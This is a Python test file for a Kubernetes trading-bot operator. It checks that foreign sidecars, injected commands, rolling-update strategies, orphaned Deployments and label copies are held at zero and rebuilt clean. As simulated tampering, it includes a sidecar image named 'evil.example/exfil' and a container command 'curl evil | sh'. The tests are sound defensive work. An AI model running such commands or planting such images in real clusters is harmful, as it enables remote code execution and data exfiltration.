"""Issue 8's findings 3, 6 and 7 in the fast tier: a foreign sidecar, command or rolling
update strategy holds the bot and is undone; a halt lowers every bot before writing
any status; an orphaned bot Deployment and a copy carrying the bot's labels are kept
at zero. Each was a strict xfail on the code before main's b7538b0 and passes since.
The rest of fail-closed is test_fail_closed.py.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from operator_harness import NS, Harness, armed_at, bot, running_bot
from spy_dev.fake_kube import AdmissionRequest
from spy_operator import constants as c
from virtual_time import virtual_time


def said_foreign_change(h: Harness, name: str = "b") -> bool:
    """A status write said ForeignChange, not armed (the state lasts only until the
    rebuilt Deployment is applied, which the DELETED event triggers at once)."""
    return any(
        req.path.endswith(f"/tradingbots/{name}/status")
        and (req.body or {}).get("status", {}).get("reason") == "ForeignChange"
        and (req.body or {}).get("status", {}).get("armed") is False
        for req in h.api.writes("tradingbots", "status")
    )


def lowered_or_deleted_since(h: Harness, mark: int, dep: str = "b-bot") -> bool:
    """Did a write set the Deployment to 0 replicas (any verb, /scale or not) or delete
    it after request number `mark`?"""
    for req in h.api.requests[mark:]:
        if not req.path.endswith(f"/deployments/{dep}") and not req.path.endswith(
            f"/deployments/{dep}/scale"
        ):
            continue
        sets_zero = (req.body or {}).get("spec", {}).get("replicas") == 0
        if req.status < 300 and (req.verb == "DELETE" or (req.verb == "PATCH" and sets_zero)):
            return True
    return False


def template_of(h: Harness, dep: str = "b-bot") -> dict[str, Any]:
    found = h.api.peek("Deployment", NS, dep) or {}
    return dict(found.get("spec", {}).get("template", {}).get("spec", {}))


async def foreign_change_handled(h: Harness, mark: int, clean: Callable[[], bool]) -> None:
    """The bot is held (0 or deleted) with reason ForeignChange, then rebuilt clean."""
    await h.wait_until("lowered or deleted", lambda: lowered_or_deleted_since(h, mark), within=2)
    await h.wait_until("rebuilt clean and armed", lambda: clean() and armed_at(h, "b")(), within=10)


@virtual_time
async def test_a_foreign_sidecar_holds_the_bot_and_the_deployment_is_rebuilt_without_it() -> None:
    h = await running_bot()
    mark = len(h.api.requests)
    sidecar = {"name": "sidecar", "image": "evil.example/exfil:1"}
    h.api.apply(
        {
            "apiVersion": "apps/v1",
            "kind": "Deployment",
            "metadata": {"name": "b-bot", "namespace": NS},
            "spec": {"template": {"spec": {"containers": [sidecar]}}},
        },
        manager="mallory",
    )
    await h.wait_until("ForeignChange", lambda: said_foreign_change(h), within=2)

    def names() -> list[str]:
        return [x["name"] for x in template_of(h).get("containers", [])]

    await foreign_change_handled(h, mark, lambda: names() == ["bot"])
    await h.stop()


@virtual_time
async def test_a_foreign_command_holds_the_bot_and_the_deployment_is_rebuilt_without_it() -> None:
    h = await running_bot()
    mark = len(h.api.requests)
    patch = {"containers": [{"name": "bot", "command": ["/bin/sh", "-c", "curl evil | sh"]}]}
    h.api.patch("Deployment", NS, "b-bot", {"spec": {"template": {"spec": patch}}})
    await h.wait_until("ForeignChange", lambda: said_foreign_change(h), within=2)
    await foreign_change_handled(
        h, mark, lambda: "command" not in template_of(h).get("containers", [{}])[0]
    )
    await h.stop()


@virtual_time
async def test_a_foreign_rolling_update_strategy_takes_the_deployment_to_zero() -> None:
    """A RollingUpdate could run two bots at once during a rollout (double orders)."""
    h = await running_bot()
    mark = len(h.api.requests)
    h.api.patch("Deployment", NS, "b-bot", {"spec": {"strategy": {"type": "RollingUpdate"}}})
    await h.wait_until("lowered or deleted", lambda: lowered_or_deleted_since(h, mark), within=2)

    def strategy() -> dict[str, Any]:
        dep = h.api.peek("Deployment", NS, "b-bot") or {}
        return dict(dep.get("spec", {}).get("strategy", {}))

    await h.wait_until("Recreate again", lambda: strategy().get("type") == "Recreate", within=10)
    await h.stop()


@virtual_time
async def test_a_foreign_rolling_update_strategy_is_reported_in_status() -> None:
    h = await running_bot()
    h.api.patch("Deployment", NS, "b-bot", {"spec": {"strategy": {"type": "RollingUpdate"}}})
    await h.wait_until("status says so", lambda: said_foreign_change(h), within=5)
    await h.stop()


@virtual_time
async def test_a_halt_scales_every_bot_down_before_writing_any_status() -> None:
    """Issue 8 finding 6: 24 armed bots, 8 workers; at the first bot status write after
    the halt, every bot Deployment must already be at 0."""
    h = await Harness(workers=8).start()
    h.paper_world()
    names = [f"b{i:02d}" for i in range(24)]
    for name in names:
        h.create(bot(name))
    await h.wait_until("all armed", lambda: all(armed_at(h, n)() for n in names), within=10)
    running_at_status: list[int] = []

    def observe(req: AdmissionRequest) -> None:
        # At each bot status write, how many bot Deployments still have replicas?
        if req.plural == "tradingbots" and req.subresource == "status":
            running_at_status.append(sum(h.replicas(n) or 0 for n in names))

    h.api.admission.append(observe)
    h.halt()
    await h.wait_until("all closed", lambda: all(h.replicas(n) == 0 for n in names), within=10)
    await h.wait_until("statuses", lambda: len(running_at_status) >= len(names), within=10)
    assert running_at_status[0] == 0, f"first status written with {running_at_status[0]} running"
    await h.stop()


@virtual_time
async def test_an_orphaned_bot_deployment_is_kept_at_zero() -> None:
    h = await running_bot()
    h.api.delete("TradingBot", NS, "b", orphan=True)  # kubectl delete --cascade=orphan
    assert h.get("Deployment", "b-bot") is not None, "orphaned, not collected"
    await h.wait_until("orphan closed", lambda: h.replicas("b") == 0, within=5)
    h.api.patch("Deployment", NS, "b-bot", {"spec": {"replicas": 2}}, manager="kubectl-scale")
    await h.wait_until("and kept there", lambda: h.replicas("b") == 0, within=5)
    await h.stop()


@virtual_time
async def test_a_copy_carrying_the_bot_labels_is_halted() -> None:
    h = await running_bot()
    copy = h.get("Deployment", "b-bot")
    assert copy is not None
    meta = copy["metadata"]
    h.api.apply(
        {
            "apiVersion": "apps/v1",
            "kind": "Deployment",
            "metadata": {"name": "b-copy", "namespace": NS, "labels": meta["labels"]},
            "spec": {**copy["spec"], "replicas": 1},
        },
        manager="mallory",
    )
    h.halt()
    await h.wait_until(
        "copy closed",
        lambda: (h.api.peek("Deployment", NS, "b-copy") or {})["spec"]["replicas"] == 0,
        within=5,
    )
    assert h.get("ConfigMap", c.HALT_CONFIGMAP, c.DEFAULT_OPERATOR_NAMESPACE) is not None
    await h.stop()
